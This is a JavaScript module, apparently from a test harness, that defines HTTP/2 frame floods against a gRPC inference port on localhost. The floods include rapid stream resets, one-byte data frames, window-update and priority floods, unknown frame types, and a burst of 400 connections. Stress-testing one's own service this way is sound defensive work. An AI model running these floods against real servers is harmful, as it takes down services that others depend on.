/** Attacks by frames of HTTP/2 on the gRPC port: many small ones, of which each takes the service longer than it takes whoever sends it. */
import { connect } from "node:net";
import { block, frame, PREFACE } from "../../../node/test/support/malformed-grpc.mjs";
import { PAUSE_MS, sleep } from "./asking.mjs";

/** Types and flags of frames (RFC 9113, section 6), and a type that there is not. */
const [DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, WINDOW_UPDATE, UNKNOWN] = [0, 1, 2, 3, 4, 8, 99];
const [END_STREAM, END_HEADERS] = [1, 4];
const CONNECTIONS = 16;
const FRAMES_A_WRITE = 4000;
const INFER = "/inference.GRPCInferenceService/ModelInfer";

const headersOf = (path) =>
  block([
    [":method", "POST"],
    [":scheme", "http"],
    [":path", path],
    [":authority", "localhost"],
    ["content-type", "application/grpc"],
    ["te", "trailers"],
  ]);

const many = (make) => Buffer.concat(Array.from({ length: FRAMES_A_WRITE }, (_, index) => make(index)));

/** The head of a message of as many bytes as it may have by default, or nearly. */
const MESSAGE_HEAD = Buffer.from([0, 4, 0, 0, 0]);

/** Streams that are opened, by their numbers, from the `turn`th lot on. */
const opened = (path, turn, end) => {
  const headers = headersOf(path);
  return many((index) => {
    const id = 2 * (turn * FRAMES_A_WRITE + index) + 1;
    return Buffer.concat([frame(HEADERS, END_HEADERS, id, headers), ...end(id)]);
  });
};

/** Connections that write what `begin` is, and then `more` of it for as long as the service takes it; one that is closed is made anew. */
function flood({ begin = Buffer.alloc(0), more }) {
  return ({ grpcPort, from, isOver }) =>
    Promise.all(
      Array.from({ length: CONNECTIONS }, async () => {
        while (!isOver()) {
          const socket = connect({ port: grpcPort, host: "127.0.0.1", localAddress: from }).resume();
          const closed = new Promise((resolve) => socket.on("error", () => {}).once("close", resolve));
          socket.write(Buffer.concat([PREFACE, frame(SETTINGS, 0, 0, Buffer.alloc(0)), begin]));
          for (let turn = 0; !isOver() && !socket.destroyed; turn += 1) {
            await Promise.race([closed, new Promise((resolve) => socket.write(more(turn), resolve))]);
          }
          socket.destroy();
          await sleep(PAUSE_MS);
        }
      }),
    );
}

/** Connections that first are all there, and then each write at once as much as is read at once, again and again. */
function sendAtOnce(frames) {
  return async ({ grpcPort, from, isOver }) => {
    while (!isOver()) {
      const sockets = Array.from({ length: AT_ONCE }, () =>
        connect({ port: grpcPort, host: "127.0.0.1", localAddress: from })
          .on("error", () => {})
          .resume(),
      );
      for (const socket of sockets) socket.write(Buffer.concat([PREFACE, frame(SETTINGS, 0, 0, Buffer.alloc(0))]));
      await sleep(AT_ONCE_MS);
      for (const socket of sockets) if (socket.writable) socket.write(frames);
      await sleep(AT_ONCE_MS);
      for (const socket of sockets) socket.destroy();
    }
  };
}

const AT_ONCE = 400;
const AT_ONCE_MS = 1000;

const again = (make) => {
  const frames = many(make);
  return () => frames;
};
const call = Buffer.concat([frame(HEADERS, END_HEADERS, 1, headersOf(INFER)), frame(DATA, 0, 1, MESSAGE_HEAD)]);
const reset = (id) => [frame(RST_STREAM, 0, id, Buffer.from([0, 0, 0, 8]))];
const end = (id) => [frame(DATA, END_STREAM, id, Buffer.alloc(5))];

/** @type {Record<string, import("./asking.mjs").Attack>} */
export const FRAME_ATTACKS = {
  "grpc bytes": {
    title: "16 connections of the gRPC port whose messages come in frames of one byte",
    run: flood({ begin: call, more: again(() => frame(DATA, 0, 1, Buffer.alloc(1))) }),
  },
  "grpc resets": {
    title: "16 connections of the gRPC port that open calls and reset them",
    run: flood({ more: (turn) => opened(INFER, turn, reset) }),
  },
  "grpc unknown": {
    title: "16 connections of the gRPC port that call what is not there, and reset it",
    run: flood({ more: (turn) => opened("/none/None", turn, reset) }),
  },
  "grpc unanswerable": {
    title: "16 connections of the gRPC port that call what is not there",
    run: flood({ more: (turn) => opened("/none/None", turn, end) }),
  },
  "grpc windows": {
    title: "16 connections of the gRPC port that send updates of their window alone",
    run: flood({ more: again(() => frame(WINDOW_UPDATE, 0, 0, Buffer.from([0, 0, 0, 1]))) }),
  },
  "grpc priorities": {
    title: "16 connections of the gRPC port that send priorities alone",
    run: flood({ begin: call, more: again(() => frame(PRIORITY, 0, 1, Buffer.from([0, 0, 0, 0, 9]))) }),
  },
  "grpc strange frames": {
    title: "16 connections of the gRPC port that send frames of a type that there is not",
    run: flood({ begin: call, more: again(() => frame(UNKNOWN, 0, 1, Buffer.alloc(1))) }),
  },
  "grpc at once": {
    title: "400 connections of the gRPC port that open as many calls as come in one read, all at the same time",
    run: sendAtOnce(opened(INFER, 0, () => []).subarray(0, 64_000)),
  },
  "grpc trailers": {
    title: "16 connections of the gRPC port that send headers in the midst of a message",
    run: flood({ begin: call, more: again(() => frame(HEADERS, END_HEADERS, 1, block([["x", "y"]]))) }),
  },
};
